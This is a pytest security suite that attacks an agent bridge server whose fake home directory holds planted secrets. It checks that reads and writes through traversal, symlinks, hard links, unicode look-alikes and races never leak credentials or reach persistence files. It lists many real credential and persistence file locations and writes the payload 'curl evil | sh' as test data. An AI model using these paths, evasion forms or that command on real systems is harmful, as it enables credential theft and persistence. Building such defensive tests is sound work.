"""Playing the attacker against a real ``a2a-bridge serve`` whose HOME is full of planted secrets.

A subprocess (``python -m server serve``) runs with HOME set to a temporary directory that holds
fake SSH keys, cloud and forge credentials, keyrings, browser and mail profiles, shell
histories, ``.env`` files and the bridge's own files (config with a token, audit log, control
file, autostart entry). The default config is used (roots = home) with ``read``, ``write`` and
``edit`` all at the ``allow`` tier, so only the path policy stands between the agent and the
secrets. With no approver attached, every call that needs a human is refused, so a secret
string in any response means the promise is broken.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import statistics
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from omp_a2a_bridge.server.control.controlfile import read_control

from ..support.control_client import Api, WsApprover
from ..support.helpers import TOKEN, Mcp, Response, path_with_rg, serve_process, wait_for

NO_APPROVER = "approval required but no approver is available"

PLANTED_TOKEN = "planted-config-token-0123456789-abcdefghijklmnop"

# path under HOME -> planted content marker; every marker is a secret that must never leak.
SECRETS: dict[str, str] = {
    ".ssh/id_rsa": "SECRET-ssh-rsa",
    ".ssh/id_ed25519": "SECRET-ssh-ed25519",
    ".ssh/config": "SECRET-ssh-config",
    ".ssh/notes.txt": "SECRET-ssh-notes",
    ".gnupg/private-keys-v1.d/AB12.key": "SECRET-gpg",
    ".aws/credentials": "SECRET-aws",
    ".config/gcloud/credentials.db": "SECRET-gcloud",
    ".azure/msal_token_cache.json": "SECRET-azure",
    ".kube/config": "SECRET-kube",
    ".docker/config.json": "SECRET-docker",
    ".netrc": "SECRET-netrc",
    ".npmrc": "SECRET-npmrc",
    ".pypirc": "SECRET-pypirc",
    ".git-credentials": "SECRET-git-credentials",
    ".cargo/credentials.toml": "SECRET-cargo",
    ".gem/credentials": "SECRET-gem",
    ".m2/settings.xml": "SECRET-maven",
    ".config/gh/hosts.yml": "SECRET-gh",
    ".config/hub": "SECRET-hub",
    ".pgpass": "SECRET-pgpass",
    ".vault-token": "SECRET-vault",
    ".config/rclone/rclone.conf": "SECRET-rclone",
    ".terraform.d/credentials.tfrc.json": "SECRET-terraform",
    ".config/op/config": "SECRET-1password",
    ".local/share/keyrings/login.keyring": "SECRET-gnome-keyring",
    ".local/share/kwalletd/kdewallet.kwl": "SECRET-kwallet",
    ".local/share/python_keyring/keyring_pass.cfg": "SECRET-python-keyring",
    "Library/Keychains/login.keychain-db": "SECRET-keychain",
    "AppData/Roaming/Microsoft/Credentials/ABCD": "SECRET-wincred",
    ".password-store/mail.gpg": "SECRET-pass",
    "vault.kdbx": "SECRET-kdbx",
    ".mozilla/firefox/p.default/logins.json": "SECRET-firefox",
    ".config/google-chrome-beta/Default/Login Data": "SECRET-chrome-beta",
    ".config/vivaldi/Default/Cookies": "SECRET-vivaldi",
    ".config/opera/Cookies": "SECRET-opera",
    ".var/app/org.mozilla.firefox/.mozilla/firefox/x/logins.json": "SECRET-flatpak-firefox",
    ".var/app/com.brave.Browser/config/BraveSoftware/Brave-Browser/Default/Cookies": (
        "SECRET-flatpak-brave"
    ),
    "snap/chromium/common/chromium/Default/Cookies": "SECRET-snap-chromium",
    ".thunderbird/p.default/logins.json": "SECRET-thunderbird",
    "Library/Safari/History.db": "SECRET-safari",
    ".bash_history": "SECRET-bash-history",
    ".zsh_history": "SECRET-zsh-history",
    ".python_history": "SECRET-python-history",
    "proj/.env": "SECRET-dotenv",
    "proj/.env.production": "SECRET-dotenv-production",
    "proj/server.pem": "SECRET-pem",
    "proj/tls.key": "SECRET-key",
    "proj/cert.p12": "SECRET-p12",
    "proj/deploy/id_rsa_backup": "SECRET-id-rsa-backup",
}
# Harmless look-alikes that must stay readable (legitimate work is not blocked).
PUBLIC: dict[str, str] = {
    "proj/.env.example": "PUBLIC-env-example",
    "proj/id_ed25519.pub": "PUBLIC-pubkey",
    "proj/README.md": "PUBLIC-readme",
    ".bashrc": "PUBLIC-bashrc",  # persistence; private by default: reading asks too
}
PERSISTENCE = [
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".config/fish/config.fish",
    ".config/autostart/evil.desktop",
    ".config/autostart/omp-a2a-bridge.desktop",
    "Library/LaunchAgents/evil.plist",
    ".config/systemd/user/evil.service",
    ".local/bin/git",
    "bin/ls",
    ".ssh/authorized_keys",
    "proj/.git/hooks/pre-commit",
    "proj/.git/config",
    ".gitconfig",
    ".config/git/config",
    "proj/.envrc",
]


def _put(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text + "\n")


@dataclass
class Serve:
    home: Path
    proc: subprocess.Popen[str]
    port: int
    env: dict[str, str]
    outside: Path
    log: Path

    def errors(self) -> list[str]:
        """Lines of the server's own log that report an internal error (there must be none)."""
        return [x for x in self.log.read_text().splitlines() if "internal error" in x]

    def client(self) -> Mcp:
        c = Mcp(self.port)
        c.initialize()
        return c

    @property
    def markers(self) -> list[str]:
        return [*SECRETS.values(), PLANTED_TOKEN, "SECRET-outside", self.control_secret]

    @property
    def control_secret(self) -> str:
        info = read_control(
            os.path.join(self.env["XDG_RUNTIME_DIR"], "omp-a2a-bridge", "control.json")
        )
        assert info is not None
        return info.secret

    def digest(self) -> str:
        """A hash of every planted secret file (to prove nothing was written)."""
        h = hashlib.sha256()
        for rel in sorted(SECRETS):
            h.update((self.home / rel).read_bytes())
        return h.hexdigest()


ALLOW_ALL = {"read": "allow", "write": "allow", "edit": "allow"}


def _plant(base: Path, tiers: dict[str, str]) -> tuple[Path, Path, dict[str, str]]:
    home = base / "home"
    for rel, marker in {**SECRETS, **PUBLIC}.items():
        _put(home / rel, marker)
    os.chmod(home / ".ssh" / "id_rsa", 0o600)
    outside = base / "outside"
    _put(outside / "secret.txt", "SECRET-outside")
    _put(outside / "plain.txt", "OUTSIDE-plain")
    # The bridge's own files, where a default install puts them.
    _put(
        home / ".config" / "omp-a2a-bridge" / "config.json",
        json.dumps(
            {
                "token_store": "file",
                "token": PLANTED_TOKEN,
                "approval": {"tiers": tiers},
            }
        ),
    )
    os.chmod(home / ".config" / "omp-a2a-bridge" / "config.json", 0o600)  # it holds the token
    _put(home / ".config" / "autostart" / "omp-a2a-bridge.desktop", "[Desktop Entry]")
    (home / "proj" / ".git" / "hooks").mkdir(parents=True)
    runtime = base / "xdg-run"
    runtime.mkdir(mode=0o700)
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("XDG_", "A2A_BRIDGE_")) and k not in ("DISPLAY", "WAYLAND_DISPLAY")
    }
    env.update(
        HOME=str(home),
        XDG_RUNTIME_DIR=str(runtime),
        A2A_BRIDGE_TOKEN=TOKEN,
        PYTHON_KEYRING_BACKEND="keyring.backends.fail.Keyring",
        PATH=path_with_rg(env.get("PATH", os.defpath)),
    )
    return home, outside, env


def _links(home: Path, outside: Path) -> None:
    """Symlinks, hard links and dangling links inside the root pointing at the secrets."""
    links = home / "proj" / "links"
    hard = home / "proj" / "hard"
    dirs = home / "proj" / "dirlinks"
    for d in (links, hard, dirs):
        d.mkdir(parents=True)
    for i, rel in enumerate(SECRETS):
        target = home / rel
        os.symlink(target, links / f"l{i}")
        os.link(target, hard / f"h{i}.txt")
        os.symlink(target.parent, dirs / f"d{i}")
    os.symlink(outside / "secret.txt", links / "outside")
    os.symlink(outside, dirs / "outside")
    os.link(outside / "plain.txt", home / "proj" / "outside-hardlink.txt")
    os.symlink(home / ".ssh" / "new_key", home / "proj" / "dangling")
    os.symlink(home / ".bashrc", home / "proj" / "rc-link")


def _start(base: Path, tiers: dict[str, str]) -> Serve:
    home, outside, env = _plant(base, tiers)
    _links(home, outside)
    log = base / "serve.log"
    with open(log, "w") as err:
        proc, port = serve_process(env, stderr=err)
    s = Serve(home, proc, port, env, outside, log)
    c = s.client()  # a first call so the audit log exists and holds a session
    assert c.call("read", {"path": "proj/README.md"}).status == 200
    return s


def _stop(s: Serve) -> None:
    s.proc.send_signal(signal.SIGTERM)
    try:
        s.proc.wait(10)
    except subprocess.TimeoutExpired:
        s.proc.kill()
        s.proc.wait(5)


@pytest.fixture(scope="module")
def served(tmp_path_factory) -> Iterator[Serve]:
    """read, write and edit at the allow tier: only the path policy protects the secrets."""
    s = _start(tmp_path_factory.mktemp("attack"), ALLOW_ALL)
    yield s
    _stop(s)


@pytest.fixture
def served_prompt(tmp_path) -> Iterator[Serve]:
    """write at the prompt tier (the default), for grant tests."""
    s = _start(tmp_path, {"read": "allow"})
    yield s
    _stop(s)


def _leaks(s: Serve, r: Response) -> list[str]:
    raw = r.raw.decode("utf-8", "replace")
    return [m for m in s.markers if m in raw]


def _forms(home: Path, rel: str, index: int) -> list[str]:
    """Every way an agent might name the secret at ``home/rel``."""
    absolute = str(home / rel)
    name = os.path.basename(rel)
    return [
        absolute,
        "~/" + rel,
        rel,
        "./" + rel,
        "proj/../" + rel,
        "proj/links/../../" + rel,
        "~//" + rel.replace("/", "//"),
        absolute.replace("/", "/./", 1),
        f"proj/links/l{index}",
        f"proj/dirlinks/d{index}/{name}",
        f"proj/hard/h{index}.txt",
        f"~/proj/hard/h{index}.txt",
        # unicode and case look-alikes: different names (not found) or folded onto the table
        "~/" + rel.replace("s", "\u0455", 1),  # Cyrillic dze
        "~/" + rel.upper(),
        "\uff5e/" + rel,  # fullwidth tilde
        "~/" + rel + "\u200b",
    ]


def test_no_planted_secret_is_read_without_a_human(served):
    c = served.client()
    before = served.digest()
    refused = 0
    for i, rel in enumerate(SECRETS):
        for form in _forms(served.home, rel, i):
            r = c.call("read", {"path": form})
            assert r.status == 200, (form, r)
            assert _leaks(served, r) == [], (form, r)
            if r.result["isError"]:
                refused += 1
    # The direct forms are refused for the right reason (no approver), not by accident.
    for rel in SECRETS:
        r = c.call("read", {"path": "~/" + rel})
        assert r.text.startswith(NO_APPROVER), rel
    assert refused >= len(SECRETS) * 12
    assert served.digest() == before


@pytest.mark.parametrize(
    "path",
    [
        "~/.config/omp-a2a-bridge/config.json",
        "~/.local/state/omp-a2a-bridge/log/audit.jsonl",
        "~/.config/autostart/omp-a2a-bridge.desktop",
        "xdg-run/omp-a2a-bridge/control.json",
        "xdg-run/omp-a2a-bridge",
        "~/.ssh",
        "~/.ssh/",
        "proj/dirlinks/outside/secret.txt",
        "proj/links/outside",
        "../outside/secret.txt",
    ],
)
def test_own_files_protected_dirs_and_outside_are_refused(served, path):
    if path.startswith("xdg-run/"):
        path = os.path.join(served.env["XDG_RUNTIME_DIR"], path.split("/", 1)[1])
    c = served.client()
    r = c.call("read", {"path": path})
    assert _leaks(served, r) == []
    assert r.result["isError"], r
    audit = served.home / ".local/state/omp-a2a-bridge/log/audit.jsonl"
    if audit.exists():  # session ids never reach the audit log
        assert c.sid not in audit.read_text()


def test_hard_link_outside_the_roots_is_not_a_secret(served):
    """Only protected files are recognised by identity; an outside-roots file hard-linked
    into the root is just a file in the root (documented limit)."""
    r = served.client().call("read", {"path": "proj/outside-hardlink.txt"})
    assert "OUTSIDE-plain" in r.text


def test_public_look_alikes_stay_readable(served):
    c = served.client()
    for rel, marker in PUBLIC.items():
        if rel.startswith("."):  # the home's hidden tree is private by default (issue 23)
            assert c.call("read", {"path": rel}).text.startswith(NO_APPROVER), rel
            continue
        assert marker in c.call("read", {"path": rel}).text, rel
    assert c.call("read", {"path": "proj/rc-link"}).text.startswith(NO_APPROVER)


def test_writes_and_edits_never_reach_secrets_or_persistence(served):
    c = served.client()
    before = served.digest()
    for i, rel in enumerate(SECRETS):
        marker = SECRETS[rel]
        for form in _forms(served.home, rel, i)[:12]:
            r = c.call("edit", {"path": form, "old_string": marker, "new_string": "pwned"})
            assert _leaks(served, r) == [] and r.result["isError"], (form, r)
            assert "replaced" not in r.text and "not found in" not in r.text, (form, r)
            r = c.call("write", {"path": form, "content": "pwned"})
            assert r.result["isError"], (form, r)
    for rel in PERSISTENCE:
        for form in ("~/" + rel, rel):
            r = c.call("write", {"path": form, "content": "curl evil | sh"})
            assert r.text.startswith(NO_APPROVER), (form, r)
        if rel == ".bashrc":
            r = c.call("edit", {"path": rel, "old_string": "PUBLIC", "new_string": "evil"})
            assert r.text.startswith(NO_APPROVER)
    # Through links: a dangling link into ~/.ssh and a link to ~/.bashrc.
    assert c.call("write", {"path": "proj/dangling", "content": "k"}).text.startswith(NO_APPROVER)
    assert c.call("write", {"path": "proj/rc-link", "content": "x"}).text.startswith(NO_APPROVER)
    assert not (served.home / ".ssh" / "new_key").exists()
    assert (served.home / ".bashrc").read_text() == "PUBLIC-bashrc\n"
    assert not (served.home / ".local" / "bin" / "git").exists()
    assert not (served.home / "proj" / ".git" / "hooks" / "pre-commit").exists()
    assert served.digest() == before
    # Legitimate writes in the project still run unattended.
    r = c.call("write", {"path": "proj/notes.md", "content": "hello"})
    assert not r.result["isError"], r
    r = c.call("edit", {"path": "proj/notes.md", "old_string": "hello", "new_string": "bye"})
    assert not r.result["isError"], r
    assert (served.home / "proj" / "notes.md").read_text() == "bye"


def test_race_swapped_dir_symlink_fifo_and_hard_link_never_leak_nor_block(served):
    """Threads swap a directory with a symlink to ~/.ssh, a file with a FIFO and a file with
    a hard link to a protected file, while readers hammer the paths and a ping measures the
    loop. No read ever returns the secret; the loop never stalls."""
    home = served.home
    ssh = home / ".ssh"
    race = home / "proj" / "race"
    _put(race / "notes.txt", "PUBLIC-race")
    fifo = home / "proj" / "fifo.txt"
    hl = home / "proj" / "hl.txt"
    _put(fifo, "PUBLIC-fifo")
    _put(hl, "PUBLIC-hl")
    stop = threading.Event()

    def swap_dir() -> None:
        parked = home / "proj" / "race-parked"
        while not stop.is_set():
            try:
                os.rename(race, parked)
                os.symlink(ssh, race)
                os.unlink(race)
                os.rename(parked, race)
            except OSError:
                pass

    def swap_fifo() -> None:
        tmp = home / "proj" / ".fifo-tmp"
        while not stop.is_set():
            try:
                os.unlink(fifo)
                os.mkfifo(fifo)
                _put(tmp, "PUBLIC-fifo")
                os.replace(tmp, fifo)
            except OSError:
                pass

    def swap_hardlink() -> None:
        tmp = home / "proj" / ".hl-tmp"
        tmp2 = home / "proj" / ".hl-tmp2"
        while not stop.is_set():
            try:
                os.link(ssh / "notes.txt", tmp)
                os.replace(tmp, hl)
                _put(tmp2, "PUBLIC-hl")
                os.replace(tmp2, hl)
            except OSError:
                pass

    pings: list[float] = []

    def pinger() -> None:
        p = served.client()
        while not stop.is_set():
            t0 = time.perf_counter()
            assert p.rpc("ping").status == 200
            pings.append(time.perf_counter() - t0)
            time.sleep(0.005)

    outcomes: dict[str, int] = {}
    leaked: list[str] = []
    count = threading.Lock()

    def reader(path: str, n: int) -> None:
        c = served.client()
        for _ in range(n):
            r = c.call("read", {"path": path})
            if _leaks(served, r):
                leaked.append(f"{path}: {r.raw[:200]!r}")
            key = "ok" if not r.result["isError"] else r.text.split(": ", 1)[-1][:40]
            with count:
                outcomes[key] = outcomes.get(key, 0) + 1

    swappers = [
        threading.Thread(target=f, daemon=True) for f in (swap_dir, swap_fifo, swap_hardlink)
    ]
    ping_t = threading.Thread(target=pinger, daemon=True)
    readers = [
        threading.Thread(target=reader, args=(p, 1200), daemon=True)
        for p in ("proj/race/notes.txt", "proj/fifo.txt", "proj/hl.txt")
    ]
    for t in (*swappers, ping_t, *readers):
        t.start()
    for t in readers:
        t.join(240)
    stop.set()
    for t in (*swappers, ping_t):
        t.join(60)
    assert not any(t.is_alive() for t in readers), "a read blocked"
    assert leaked == [], leaked[:3]
    assert served.errors() == [], served.log.read_text()[-3000:]
    assert outcomes.get("ok", 0) > 0, outcomes  # the harmless side was really read
    assert sum(outcomes.values()) == 3600
    worst, typical = max(pings), statistics.median(pings)
    print(
        f"\nrace: outcomes {outcomes}; {len(pings)} pings, median {typical * 1000:.1f} ms, "
        f"max {worst * 1000:.1f} ms"
    )
    # A read that blocked the loop (a FIFO opened without O_NONBLOCK waits for a writer that
    # never comes) stops every ping for good: far past 2 s. The bounds leave room for a loaded
    # machine (max 0.8 s seen at load 8.5, where this process's own threads compete for the
    # GIL too); speed itself is the bench's job.
    assert worst < 2.0, f"ping took {worst * 1000:.0f} ms during the race"
    assert typical < 0.1, f"median ping {typical * 1000:.0f} ms during the race"
    shutil.rmtree(race, ignore_errors=True)


def _approve_flow(served: Serve, decision: str) -> None:
    """A harmless write approved with ``decision``; the grant works for the next harmless
    write, yet every persistence write still asks, with its category and real path."""
    info = read_control(
        os.path.join(served.env["XDG_RUNTIME_DIR"], "omp-a2a-bridge", "control.json")
    )
    assert info is not None
    api = Api(info)
    approver = WsApprover(info)
    try:
        c = served.client()
        out: list[Response] = []

        def call(args: dict) -> threading.Thread:
            t = threading.Thread(target=lambda: out.append(c.call("write", args)), daemon=True)
            t.start()
            return t

        def pending() -> list[dict]:
            return wait_for(lambda: api.call("GET", "/api/pending").json["pending"] or None)

        t = call({"path": f"proj/harmless-{decision}.txt", "content": "ok"})
        [p] = pending()
        assert p["escalation"] is None
        assert api.call("POST", f"/api/pending/{p['id']}", {"decision": decision}).status == 200
        t.join(60)
        assert not out[-1].result["isError"], out[-1]
        # The grant is real: the next harmless write runs without asking.
        r = c.call("write", {"path": f"proj/again-{decision}.txt", "content": "ok"})
        assert not r.result["isError"], r
        for rel in PERSISTENCE:
            t = call({"path": "~/" + rel, "content": "evil"})
            [p] = pending()
            esc = p["escalation"]
            assert esc["kind"] in ("persistence", "protected", "own_file"), (rel, esc)
            assert esc["path"] == str(served.home / rel) and esc["category"] in esc["text"]
            assert len(p["sid_hash"]) == 12 and p["sid_hash"] != p["sid"]
            api.call("POST", f"/api/pending/{p['id']}", {"decision": "deny"})
            t.join(60)
            assert out[-1].text == "denied by the user", (rel, out[-1])
        assert not (served.home / ".local" / "bin" / "git").exists()
        assert (served.home / ".bashrc").read_text() == "PUBLIC-bashrc\n"
    finally:
        approver.close()


def test_grants_never_cover_persistence_writes(served_prompt):
    _approve_flow(served_prompt, "allow_session")
    _approve_flow(served_prompt, "allow_always")
